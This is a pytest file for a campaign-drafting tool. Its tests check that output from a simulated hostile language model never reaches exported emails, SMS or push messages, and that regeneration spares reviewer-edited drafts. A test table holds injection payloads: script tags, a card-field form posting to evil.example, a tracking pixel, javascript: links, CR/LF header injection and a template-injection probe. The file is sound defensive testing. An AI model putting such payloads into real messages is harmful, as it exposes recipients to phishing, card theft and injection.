"""End to end with hostile input (issue 9): a hostile model's copy never reaches an export,
and --regenerate never overwrites what a reviewer touched.

A tiny demo shop is trained once; each test drafts a real campaign (ranker, templates or the
real openai client against the local fake server), reviews and exports it.
"""

from __future__ import annotations

from pathlib import Path

import pytest

import fake_openai as fake
from fake_openai import FakeOpenAI
from pushgen import export as ex
from pushgen import review as rv
from pushgen.campaign import LLMOptions, draft_campaign
from pushgen.config import load_campaign_config
from pushgen.store import open_store

from _signing_helpers import OWN_SENDER
from _shop import build_shop, copy_shop


@pytest.fixture(scope="module")
def tiny_shop(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_shop(tmp_path_factory.mktemp("tiny"), seed=5, users=60, items=40, events=1500,
                      epochs=2, components=8)


@pytest.fixture
def db(tiny_shop: Path, tmp_path: Path):
    return open_store(copy_shop(tiny_shop, tmp_path))


def _cfg(name: str, channel: str, limit: int):
    cfg = load_campaign_config(None, name=name, channel=channel)
    for key, value in OWN_SENDER.items():
        setattr(cfg.settings, key, value)
    cfg.audience.limit = limit
    return cfg


def _add(fields: dict[str, str], **extra: str) -> dict[str, str]:
    out = dict(fields)
    for key, value in extra.items():
        if key in out:
            out[key] = value.format(out[key])
    return out


# (channel, what the hostile model does to valid copy, text that must never be exported)
HOSTILE = {
    "phone numbers": ("sms", {"text": "{} Call +1 (415) 555-0199 or WhatsApp 020 7946 0958"},
                      ["555-0199", "7946 0958"]),
    "bare domain": ("sms", {"text": "{} More at evil-shop.example/deal"}, ["evil-shop"]),
    "script, form, pixel, javascript: and //host links": (
        "email", {"html": '{}<script>alert(1)</script><form action="//evil.example/">'
                          '<input name="card"></form><img src="//evil.example/pixel.gif">'
                          '<a href="javascript:alert(1)">win</a><a href="//evil.example/">go</a>'},
        ["evil.example", "<script", "javascript:", "pixel.gif"]),
    "CR/LF in the subject": ("email", {"subject": "{}\r\nX-Evil: 1"}, ["X-Evil"]),
    "CR/LF in the push title": ("push", {"title": "Hi\r\nX-Evil: 1"}, ["X-Evil"]),
    "template syntax": ("email", {"subject": "{{{{ 7*7 }}}} {}"}, ["{{", "7*7"]),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_model_never_gets_copy_into_an_export(db, tmp_path, case):
    channel, change, markers = HOSTILE[case]
    hostile = fake.answer(lambda request: _add(fake.echo_fields(request), **change))
    with FakeOpenAI(default=hostile) as server:
        report = draft_campaign(db, "evil", _cfg("evil", channel, 4), generator="llm",
                                llm=LLMOptions(model="m", base_url=server.url, concurrency=2,
                                               max_attempts=1))
    assert report.drafted == 4
    # nothing with a marker passed its checks
    for content, passed in db.execute("SELECT content, passed FROM drafts"):
        if any(m in content for m in markers):
            assert not passed, content
    approved = rv.approve_all_passing(db, "evil", actor="lead")
    assert approved == 4  # the template fallbacks
    fmts = ["csv", "eml"] if channel == "email" else ["csv"]
    for fmt in fmts:
        rep = ex.export_campaign(db, "evil", channel, fmt=fmt, out_dir=tmp_path / fmt,
                                 again=True, actor="ops")
        assert rep.exported == 4
        files = [rep.path] if rep.path.is_file() else sorted(rep.path.iterdir())
        for f in files:
            text = f.read_bytes().decode("utf-8")
            for m in markers:
                assert m not in text, (case, f.name, m)


def test_regenerate_keeps_every_draft_a_person_touched(db):
    cfg = _cfg("spring", "push", 6)
    draft_campaign(db, "spring", cfg)
    ids = [r[0] for r in db.execute("SELECT id FROM drafts ORDER BY id")]
    assert len(ids) == 6
    edited, approved, rejected, reopened, untouched = ids[:5]
    title = rv.get_draft(db, edited).content["title"]
    rv.edit(db, edited, {"title": title + "!"}, actor="ana", expected_version=1)
    rv.approve(db, approved, actor="ana")
    rv.reject(db, rejected, actor="ana", reason="tone")
    rv.approve(db, reopened, actor="ana")
    rv.reopen(db, reopened, actor="ana")
    before = {i: (rv.get_draft(db, i).content, rv.get_draft(db, i).version) for i in ids}

    changed = _cfg("spring", "push", 6)
    changed.settings.push_body_max = 40  # every body is cut differently now
    report = draft_campaign(db, "spring", changed, regenerate=True)
    assert report.drafted == 2   # untouched + the sixth draft
    for i in (edited, approved, rejected, reopened):
        d = rv.get_draft(db, i)
        assert (d.content, d.version) == before[i], i
        assert "regenerate" not in [e.action for e in d.history]
    d = rv.get_draft(db, untouched)
    assert d.content != before[untouched][0] and len(d.content["body"]) <= 40
    assert d.version == before[untouched][1] + 1
    (event,) = [e for e in d.history if e.action == "regenerate"]
    assert event.before == before[untouched][0] and event.after == d.content
    assert event.status_before == event.status_after == "draft"
    assert "push/default" in event.reason
